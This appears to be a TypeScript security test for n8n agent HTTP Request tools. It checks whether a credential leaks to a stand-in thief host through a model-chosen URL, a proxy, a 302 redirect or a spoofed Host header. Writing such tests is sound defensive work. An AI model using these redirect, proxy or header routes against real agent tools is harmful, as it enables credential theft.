import type { INode, INodeParameters } from 'n8n-workflow';

import type { N8nServer } from '../n8nServer';
import { startScriptedModel, type ModelTurn } from '../scriptedModel';
import { runToEnd, seen, type Outcome, type Scene } from './run';
import { carries } from './thief';
import { REFUSED, request, type At, type CredentialName, type Place, type Way } from './ways';

/** A tool of an agent, and what its model gives it. */
export interface ToolWay extends Pick<Way, 'title' | 'expected'> {
	versions: number[];
	node(place: Place, at: At): Partial<INode> & { credential?: CredentialName };
	arguments?(place: Place, at: At): Record<string, string>;
}

const asTool = (parameters: INodeParameters) => ({
	type: 'n8n-nodes-base.httpRequestTool',
	parameters: { toolDescription: 'A tool', ...parameters },
});
const fromModel = "={{ $fromAI('url', 'Where', 'string') }}";
const redirectAway = ({ service, thief }: Place, at: At) =>
	at(`${service.url}/v1/r?status=302&to=${encodeURIComponent(at(thief.http))}`);

/** HTTP Request as a tool: the same node, with values of the model. */
const newer: ToolWay[] = (
	[
		['GET', 'answered', ({ service }, at) => request(at(`${service.url}/v1/x`))],
		['A URL of the model', 'answered', () => request(fromModel), ({ service }) => service.url],
		['The thief as a URL of the model', REFUSED.place, () => request(fromModel), thiefsUrl],
		[
			'Through a proxy',
			REFUSED.proxy,
			({ service, thief }, at) =>
				request(at(`${service.url}/v1/x`), { options: { proxy: thief.http } }),
		],
		['302 to the thief', /302/, (place, at) => request(redirectAway(place, at))],
	] as Array<
		[
			string,
			Way['expected'],
			(place: Place, at: At) => INodeParameters,
			((place: Place) => string)?,
		]
	>
).map(([title, expected, parameters, url]) => ({
	title,
	expected,
	versions: [4.5],
	node: (place, at) => asTool(parameters(place, at)),
	...(url && { arguments: (place: Place, at: At) => ({ url: at(`${url(place)}/v1/x`) }) }),
}));

function thiefsUrl({ thief }: Place): string {
	return thief.http;
}

const parameter = (name: string, value: string) => ({
	values: [{ name, valueProvider: 'fieldValue', value }],
});

/** The older HTTP Request Tool, a node of its own. */
const older: ToolWay[] = (
	[
		['GET', 'answered', ({ service }, at) => at(`${service.url}/v1/x`), {}],
		['The URL is the thief', REFUSED.place, ({ thief }, at) => at(`${thief.http}/v1/x`), {}],
		['302 to the thief', /302/, redirectAway, {}],
		[
			'A header Host',
			REFUSED.header,
			({ service }, at) => at(`${service.url}/v1/x`),
			{
				sendHeaders: true,
				specifyHeaders: 'keypair',
				parametersHeaders: parameter('Host', 'thief.example'),
			},
		],
		[
			'A header get with the header Host in it',
			'answered',
			({ service }, at) => at(`${service.url}/v1/x`),
			{
				sendHeaders: true,
				specifyHeaders: 'json',
				jsonHeaders: '{"get":{"Host":"thief.example"}}',
			},
		],
	] as Array<[string, Way['expected'], (place: Place, at: At) => string, INodeParameters]>
).map(([title, expected, url, more]) => ({
	title,
	expected,
	versions: [1.1],
	node: (place, at) => ({
		type: '@n8n/n8n-nodes-langchain.toolHttpRequest',
		parameters: {
			toolDescription: 'A tool',
			method: 'GET',
			url: url(place, at),
			authentication: 'predefinedCredentialType',
			nodeCredentialType: 'workspaceCrmApi',
			...more,
		},
	}),
}));

export const toolWays = { 'HTTP Request as a tool': newer, 'HTTP Request Tool (older)': older };

/** Has an agent call one tool after the other, and tells what came of each. */
export async function runTools(n8n: N8nServer, scene: Scene, ways: ToolWay[]): Promise<Outcome[]> {
	const each = ways.map((way) => ({ way, number: scene.numbered++ }));
	const atOf = (number: number) => (url: string) =>
		`${url}${url.includes('?') ? '&' : '?'}way=${number}`;
	const outputs: string[] = [];
	const turns = each.map(({ way, number }): ModelTurn => {
		const values = way.arguments?.(scene, atOf(number)) ?? {};
		return { tool: `Way_${number}`, arguments: values };
	});
	const model = await startScriptedModel(
		[...turns, { text: 'Done.' }].map((turn) => (lastToolOutput: string) => {
			outputs.push(lastToolOutput);
			return turn;
		}),
	);
	try {
		const credential = await n8n.rest.createCredential('Model', 'openAiApi', {
			apiKey: 'none',
			url: `${model.url}/v1`,
		});
		const tools = each.map(({ way, number }): INode => {
			const { credential: name = 'bearer', ...node } = way.node(scene, atOf(number));
			return {
				...nodeOf(`Way_${number}`, '', way.versions[0]),
				credentials: { workspaceCrmApi: { id: scene.credentials[name], name } },
				...node,
			};
		});
		const data = await runToEnd(n8n, workflowOf(tools, credential));
		const stored = JSON.stringify(data);
		return each.map(({ way, number }, index) => {
			const output = outputs[index + 1] ?? '';
			// An agent is not told why a node has failed; the user is.
			const [run] = data.resultData.runData[`Way_${number}`] ?? [];
			const hasFailed = !output.includes('ws_1');
			return {
				title: way.title,
				version: way.versions[0],
				...seen(scene, number, output),
				isShown: [output, stored, JSON.stringify(model.requests)].some((text) =>
					carries(text, scene.apiKey),
				),
				...(hasFailed && { error: output || run?.error?.message }),
				wellItems: hasFailed ? 0 : 1,
			};
		});
	} finally {
		await model.close();
	}
}

function nodeOf(name: string, type: string, typeVersion: number): INode {
	return { id: name, name, type, typeVersion, position: [0, 0], parameters: {} };
}

function workflowOf(tools: INode[], modelCredential: string) {
	const to = (type: string) => [[{ node: 'Agent', type, index: 0 }]];
	const agent: INode = {
		...nodeOf('Agent', '@n8n/n8n-nodes-langchain.agent', 2.2),
		parameters: { promptType: 'define', text: 'Go', options: { maxIterations: 100 } },
	};
	const model: INode = {
		...nodeOf('Model', '@n8n/n8n-nodes-langchain.lmChatOpenAi', 1.2),
		parameters: { model: { __rl: true, mode: 'id', value: 'scripted' }, options: {} },
		credentials: { openAiApi: { id: modelCredential, name: 'Model' } },
	};
	return {
		name: 'Tools',
		nodes: [nodeOf('Start', 'n8n-nodes-base.manualTrigger', 1), agent, model, ...tools],
		connections: {
			Start: { main: to('main') },
			Model: { ai_languageModel: to('ai_languageModel') },
			...Object.fromEntries(tools.map(({ name }) => [name, { ai_tool: to('ai_tool') }])),
		} as never,
		settings: { executionOrder: 'v1' as const },
	};
}
